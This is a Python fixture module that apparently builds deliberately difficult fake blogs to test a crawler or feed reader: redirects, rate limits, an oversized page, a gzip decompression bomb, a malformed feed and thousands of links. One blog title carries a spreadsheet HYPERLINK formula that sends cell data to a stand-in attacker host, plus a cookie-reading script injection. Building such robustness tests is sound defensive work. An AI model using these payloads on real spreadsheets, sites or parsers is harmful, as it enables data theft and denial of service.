"""Living sites that are hard to read: huge, broken, hostile, moved about, or busy."""

from __future__ import annotations

import gzip
from dataclasses import replace
from functools import cache

from demo.people import PEOPLE
from demo.site import HTML, Appearance, Pages, Served, feed, page, redirect
from demo.sites.plain import ATOM, INTRO, blog

BIG_PAGE_BYTES = 20_000_000
BOMB_BYTES = 60_000_000
LINKS = 5000


def redirected(look: Appearance) -> Pages:
    """Return a blog whose home page stands elsewhere on the same host."""
    pages = blog(look)
    return pages | {"/": redirect("/fr/accueil/"), "/fr/accueil/": pages["/"]}


def rate_limited(look: Appearance) -> Pages:
    """Return a blog that sends the first visitor of its home page away for a moment."""
    pages = blog(look)
    busy = Served(b"Too Many Requests", "text/plain", 429, (("Retry-After", "1"),), then=pages["/"])
    return pages | {"/": busy}


def big_page(look: Appearance) -> Pages:
    """Return a blog whose home page is far too large; its feed is not."""
    return blog(look) | {"/": Served(_big_page(), HTML)}


def gzip_bomb(look: Appearance) -> Pages:
    """Return a blog whose main feed explodes when unpacked; its second feed is harmless."""
    bomb = Served(_bomb(), "application/atom+xml", headers=(("Content-Encoding", "gzip"),))
    feeds = [(ATOM, "/bombe.xml"), (ATOM, "/index.xml")]
    return blog(look) | {"/": page("page.html", look, feeds=feeds, intro=INTRO), "/bombe.xml": bomb}


def broken_feed(look: Appearance) -> Pages:
    """Return a blog whose feed is no XML: bare ampersands, an HTML entity, the end cut off."""
    pages = blog(look)
    broken = pages["/index.xml"].body.replace(b"</title>", b"&nbsp;R&D & co</title>")
    broken = broken[: broken.rindex(b"</feed>")]
    return pages | {"/index.xml": replace(pages["/index.xml"], body=broken)}


def many_links(look: Appearance) -> Pages:
    """Return a blog whose home page links to thousands of pages."""
    links = [f"/archives/{number}/" for number in range(LINKS)]
    home = page("page.html", look, feeds=[(ATOM, "/index.xml")], intro=INTRO, links=links)
    return blog(look) | {"/": home}


def hostile_title(look: Appearance) -> Pages:
    """Return a blog whose title is an attack on web pages and on spreadsheets, and names a person."""
    title = (
        '=HYPERLINK("http://pirate.invalid/?"&A1,"Cliquez")'
        f"<script>alert(document.cookie)</script> {PEOPLE[6].email}"
    )
    home = page("page.html", look, title=title, feeds=[(ATOM, "/index.xml")], intro=INTRO)
    evil = replace(look, name=title)
    return blog(look) | {"/": home, "/index.xml": feed("atom.xml", evil, path="/index.xml")}


@cache
def _big_page() -> bytes:
    line = b"<p>Encore une ligne d'archives.</p>\n"
    start = b"<!doctype html><html lang=fr><title>Archives</title><body>\n"
    return start + line * ((BIG_PAGE_BYTES - len(start)) // len(line))


@cache
def _bomb() -> bytes:
    return gzip.compress(b" " * BOMB_BYTES, mtime=0)
